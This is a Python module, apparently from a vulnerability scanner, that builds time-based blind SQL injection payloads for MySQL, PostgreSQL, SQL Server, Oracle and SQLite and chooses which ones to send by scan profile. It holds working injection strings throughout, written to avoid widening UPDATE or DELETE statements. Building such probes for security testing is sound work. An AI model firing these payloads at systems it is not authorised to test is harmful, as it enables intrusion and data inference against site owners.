"""Values that make a database wait, for points whose answers show nothing.

Safety. As with the forms for conditions, no delay lets an UPDATE or DELETE reach more rows: in a number the value stays
equal (minus 0), in a text the rest is joined by AND to 0, which is false, or by `||` to empty text. The waiting stands
in a subquery without tables, so that it runs once and not once a row. Only SQL Server needs a second statement to wait;
there the first one is closed with `AND 1=0` and reaches nothing, and the second only waits.
"""

from __future__ import annotations

import msgspec

from securestack.probing.needs import Profile
from securestack.probing.sql_errors import MYSQL, ORACLE, POSTGRESQL, SQL_SERVER, SQLITE


class Delay(msgspec.Struct, frozen=True):
    """One way to wait. `template` holds `{value}` and `{seconds}`, or `{rows}` where work stands in for waiting."""

    database: str
    template: str

    def payload(self, value: str, seconds: int) -> str:
        """Return the value that asks for so many seconds."""
        return (
            self.template.replace("{seconds}", str(seconds))
            .replace("{rows}", str(1 + seconds * _ROWS_A_SECOND))
            .replace("{value}", value)
        )


_ROWS_A_SECOND = (
    12_000_000  # more than SQLite counts in a second, so that the line rises at least as steeply as asked
)

_MYSQL = "(SELECT 0 FROM(SELECT SLEEP({seconds}))q)"
_POSTGRESQL = "(SELECT {empty} FROM pg_sleep({seconds}))"
_SQLITE = (
    "(SELECT COUNT(*)*0 FROM(WITH RECURSIVE c(x) AS(SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<{rows})"
    "SELECT x FROM c))"
)
_ORACLE = "(0*DBMS_PIPE.RECEIVE_MESSAGE(CHR(107),{seconds}))"

# In a number the first part waits and the comment hides the rest; in a text the quotes of the rest end it, so one value
# asks for a delay in a number and in a text of either quote.
MYSQL_BARE_DELAY = Delay(MYSQL, "{value}-" + _MYSQL)  # where quotes are refused
MYSQL_DELAY = Delay(MYSQL, "{value}-" + _MYSQL + "/*'AND" + _MYSQL + "AND'\"AND" + _MYSQL + 'AND"*/')
POSTGRESQL_DELAY = Delay(
    POSTGRESQL,
    "{value}-"
    + _POSTGRESQL.replace("{empty}", "0")
    + "/*'||"
    + _POSTGRESQL.replace("{empty}", "''")
    + "||'*/",
)
SQL_SERVER_DELAYS = (
    Delay(SQL_SERVER, "{value}' AND 1=0;WAITFOR DELAY '0:0:{seconds}'--"),
    Delay(SQL_SERVER, "{value} AND 1=0;WAITFOR DELAY '0:0:{seconds}'--"),
)
ORACLE_DELAY = Delay(ORACLE, "{value}-" + _ORACLE + "/*'||" + _ORACLE + "||'*/")
SQLITE_DELAYS = (
    Delay(SQLITE, "{value}'||substr(''," + _SQLITE + ")||'"),
    Delay(SQLITE, "{value}-" + _SQLITE),
)

_ALL = (MYSQL_DELAY, MYSQL_BARE_DELAY, POSTGRESQL_DELAY, *SQL_SERVER_DELAYS, ORACLE_DELAY, *SQLITE_DELAYS)


def delays(profile: Profile, database: str, *, windows: bool, silent: bool, bare: bool) -> tuple[Delay, ...]:
    """Return the delays worth asking for.

    `database` is the one that an error named, or empty; `windows` whether the server looks like one that goes with SQL
    Server; `silent` whether nothing else could be asked, because the answer never depends on the value.
    """
    if profile is Profile.QUICK:
        return ()
    if known := tuple(delay for delay in _ALL if delay.database == database):
        return known
    if profile is Profile.DEEP:
        return _ALL
    if windows:
        return (*SQL_SERVER_DELAYS, MYSQL_DELAY)
    if not silent:
        return (MYSQL_DELAY,)
    return (MYSQL_BARE_DELAY, MYSQL_DELAY, POSTGRESQL_DELAY) if bare else (MYSQL_DELAY, POSTGRESQL_DELAY)
